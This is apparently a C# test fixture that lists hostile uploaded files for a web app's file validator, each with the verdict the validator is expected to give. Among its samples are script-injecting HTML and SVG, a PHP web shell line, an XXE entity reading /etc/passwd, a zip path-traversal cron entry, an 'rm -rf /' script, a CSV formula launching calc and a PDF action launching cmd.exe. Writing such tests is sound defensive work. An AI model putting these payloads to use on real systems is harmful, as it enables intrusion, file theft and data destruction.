using System.Text;
using Redress.Core.Cases;
using Redress.Web.Data;

namespace Redress.Web.Tests.Files;

/// <summary>A file that means no good, or looks as if it did.</summary>
/// <param name="What">What it is.</param>
/// <param name="Name">What its sender calls it.</param>
/// <param name="Content">What is in it.</param>
/// <param name="Type">What it is kept as; none where it is refused.</param>
/// <param name="Fault">Why it is refused.</param>
internal sealed record HostileFile(string What, string Name, byte[] Content, FileType? Type, FileFault? Fault);

internal static class Hostile
{
    private const string Script = "<script>document.title='ran'</script>";
    private const string Svg = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='ran'\"/>";

    /// <summary>What a file of each refused kind begins with or is.</summary>
    private static readonly (string What, byte[] Content, FileFault Fault)[] Refused =
    [
        ("a web page", Text($"<!DOCTYPE html><html><body>{Script}"), FileFault.Active),
        ("a web page without a head", Text($"  \r\n\t<HTML>{Script}"), FileFault.Active),
        ("a script alone", Text(Script), FileFault.Active),
        ("words and then a script", Text($"Dear sir,\n\n{Script}"), FileFault.Active),
        ("a picture that scripts", Text(Svg), FileFault.Active),
        ("a picture that scripts, with a heading", Text($"<?xml version='1.0'?>{Svg}"), FileFault.Active),
        ("a picture that scripts, with a mark", [0xEF, 0xBB, 0xBF, .. Text(Svg)], FileFault.Active),
        ("a page for a server", Text("<?php echo shell_exec($_GET['c']); ?>"), FileFault.Active),
        ("another page for a server", Text("<%@ page import='java.io' %>"), FileFault.Active),
        ("a frame", Text("<iframe src='https://elsewhere.example'>"), FileFault.Active),
        ("a stylesheet that transforms", Text("<?xml version='1.0'?><xsl:stylesheet/>"), FileFault.Active),
        (
            "an external entity",
            Text("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>"),
            FileFault.Active
        ),
        (
            "a billion laughs",
            Text("<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]>"),
            FileFault.Active
        ),
        ("a shell script", Text("#!/bin/sh\nrm -rf /\n"), FileFault.Active),
        ("a Windows program", [.. "MZ"u8, 0x90, 0, 3, 0, 0, 0, .. new byte[60]], FileFault.Active),
        ("a Linux program", [0x7F, .. "ELF"u8, 2, 1, 1, .. new byte[60]], FileFault.Active),
        ("a Mac or Java program", [0xCA, 0xFE, 0xBA, 0xBE, .. new byte[60]], FileFault.Active),
        ("a packed folder", Samples.Zip([("letter.pdf", "%PDF-")]), FileFault.Archive),
        (
            "a packed program for telephones",
            Samples.Zip([("AndroidManifest.xml", ""), ("classes.dex", "")]),
            FileFault.Archive
        ),
        ("a packed Java program", Samples.Zip([("META-INF/MANIFEST.MF", ""), ("A.class", "")]), FileFault.Archive),
        ("a packed file with a way out", Samples.Zip([("../../etc/cron.d/x", "* * * * * root sh")]), FileFault.Archive),
        ("an empty packed folder", [.. "PK"u8, 5, 6, .. new byte[18]], FileFault.Archive),
        (
            "slides, which we do not take",
            Samples.Zip([("[Content_Types].xml", ""), ("ppt/presentation.xml", "")]),
            FileFault.Archive
        ),
        ("many packed files", Samples.Zip(Enumerable.Range(0, 10_001).Select(i => ($"{i}", ""))), FileFault.Archive),
        ("a RAR archive", [.. "Rar!"u8, 0x1A, 7, 0, .. new byte[30]], FileFault.Archive),
        ("a 7z archive", [.. "7z"u8, 0xBC, 0xAF, 0x27, 0x1C, .. new byte[30]], FileFault.Archive),
        ("a gzip archive", [0x1F, 0x8B, 8, 0, .. new byte[30]], FileFault.Archive),
        ("a bzip2 archive", [.. "BZh91AY&SY"u8, .. new byte[30]], FileFault.Archive),
        ("an xz archive", [0xFD, .. "7zXZ"u8, 0, .. new byte[30]], FileFault.Archive),
        (
            "an old Word document",
            [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]],
            FileFault.OldOffice
        ),
        ("a Word document with macros", Samples.Docx([("word/vbaProject.bin", "x")]), FileFault.Macros),
        ("a workbook with macros", Samples.Xlsx([("xl/vbaProject.bin", "x")]), FileFault.Macros),
        ("a workbook with old macros", Samples.Xlsx([("xl/macrosheets/sheet1.xml", "x")]), FileFault.Macros),
        ("a text with Basic in it", Samples.Odt([("Basic/Standard/Module1.xml", "x")]), FileFault.Macros),
        ("a text with scripts in it", Samples.Odt([("Scripts/python/a.py", "x")]), FileFault.Macros),
        ("a document that owns to macros", MacroEnabled(), FileFault.Macros),
        ("rich text, which can hold programs", Text(@"{\rtf1\ansi {\object}}"), FileFault.NotKnown),
        (
            "a page with other letters",
            [0xFF, 0xFE, .. Encoding.Unicode.GetBytes($"<html>{Script}")],
            FileFault.NotKnown
        ),
        ("a page in a film's box", Samples.Boxed("html"), FileFault.NotKnown),
        ("a film we do not know", [.. "RIFF"u8, 36, 0, 0, 0, .. "AVI LIST"u8, .. new byte[30]], FileFault.NotKnown),
        ("a short cut", [0x4C, 0, 0, 0, 1, 0x14, 2, 0, .. new byte[60]], FileFault.NotKnown),
        ("nothing but noise", [.. Enumerable.Range(0, 256).Select(i => (byte)i)], FileFault.NotKnown),
        ("a page after a nought", [0, .. Text($"<html>{Script}")], FileFault.NotKnown),
        ("a PDF after a nought", [0, .. Samples.Pdf()], FileFault.NotKnown),
        ("nothing", [], FileFault.Empty),
    ];

    /// <summary>Names that lie about what the file is.</summary>
    private static readonly string[] Names = ["letter.pdf", "photo.jpg", "note.txt"];

    public static IEnumerable<HostileFile> All => [.. Lies(), .. Broken(), .. TwoAtOnce(), .. Active()];

    /// <summary>Every refused kind under names of kinds that are not.</summary>
    private static IEnumerable<HostileFile> Lies() =>
        from refused in Refused
        from name in Names
        select new HostileFile($"{refused.What} called {name}", name, refused.Content, null, refused.Fault);

    /// <summary>Every kind that is kept, cut short: refused, or kept as what it is, and never anything else.</summary>
    private static IEnumerable<HostileFile> Broken()
    {
        var photo = Samples.Jpeg();
        foreach (var at in new[] { 3, 10, 40, 120, 300 })
        {
            yield return new($"a photo cut after {at}", "a.jpg", photo[..at], null, FileFault.Damaged);
        }

        yield return new("a photo cut in its picture", "a.jpg", photo[..^3], FileType.Jpeg, null);
        foreach (var cut in new[] { 30, 60, 90, 120, 150 })
        {
            yield return new($"a document cut after {cut}", "a.docx", Samples.Docx()[..cut], null, FileFault.Damaged);
        }

        yield return new(
            "a packed file that is none",
            "a.docx",
            [.. "PK\u0003\u0004"u8, .. new byte[99]],
            null,
            FileFault.Damaged
        );
        yield return new("a PDF cut short", "a.pdf", Samples.Pdf()[..20], FileType.Pdf, null);
        yield return new("a picture cut short", "a.png", Samples.Png()[..20], FileType.Png, null);
    }

    /// <summary>Files that are two kinds at once are kept as the one they begin as.</summary>
    private static IEnumerable<HostileFile> TwoAtOnce() =>
        [
            new("a photo with a page behind it", "a.html", Samples.Jpeg(after: $"<html>{Script}"), FileType.Jpeg, null),
            new(
                "a moving picture that is a script",
                "a.js",
                [.. "GIF89a/*"u8, .. Text("*/=1;document.title='ran'")],
                FileType.Gif,
                null
            ),
            new(
                "a picture with a page in it",
                "a.htm",
                [.. Samples.Png(), .. Text($"<html>{Script}")],
                FileType.Png,
                null
            ),
            new(
                "a PDF with a page in it",
                "a.html",
                [.. Samples.Pdf(), .. Text($"<html>{Script}")],
                FileType.Pdf,
                null
            ),
            new(
                "a PDF with a packed file behind it",
                "a.zip",
                [.. Samples.Pdf(), .. Samples.Zip([("a", "b")])],
                FileType.Pdf,
                null
            ),
            new(
                "sound with a page in its title",
                "a.html",
                [.. "ID3"u8, 4, 0, 0, 0, 0, 0, 99, .. Text($"<html>{Script}")],
                FileType.Mp3,
                null
            ),
        ];

    /// <summary>What is kept though a program that opens it might do as it says. It is given out to be saved, and named for what it is.</summary>
    private static IEnumerable<HostileFile> Active() =>
        [
            new(
                "a PDF that scripts",
                "a.pdf",
                Samples.Pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
                FileType.Pdf,
                null
            ),
            new("a PDF that launches", "a.pdf", Samples.Pdf("/OpenAction<</S/Launch/F(cmd.exe)>>"), FileType.Pdf, null),
            new(
                "a PDF that sends a form",
                "a.pdf",
                Samples.Pdf("/OpenAction<</S/SubmitForm/F(https://x.example)>>"),
                FileType.Pdf,
                null
            ),
            new("a PDF with a file in it", "a.pdf", Samples.Pdf("/Names<</EmbeddedFiles<<>>>>"), FileType.Pdf, null),
            new("a locked PDF", "a.pdf", Samples.Pdf("/Encrypt 9 0 R"), FileType.Pdf, null),
            new(
                "a document with a far template",
                "a.docx",
                Samples.Docx([("word/_rels/settings.xml.rels", "https://x.example")]),
                FileType.Docx,
                null
            ),
            new("a sheet that is a formula", "a.csv", Text("=cmd|'/c calc'!A1,2"), FileType.Text, null),
            new("a batch file", "a.bat", Text("@echo off\r\ndel *.*"), FileType.Text, null),
            new("a script called text", "a.js", Text("document.title='ran'"), FileType.Text, null),
            new(
                "a virus for tests",
                "eicar.com",
                Text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
                FileType.Text,
                null
            ),
            new("an immense picture", "a.png", Samples.Png(50_000), null, FileFault.TooLarge),
        ];

    private static byte[] MacroEnabled() =>
        Samples.Zip([
            (
                "[Content_Types].xml",
                "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"
            ),
            ("word/document.xml", "<w:document/>"),
        ]);

    private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);
}
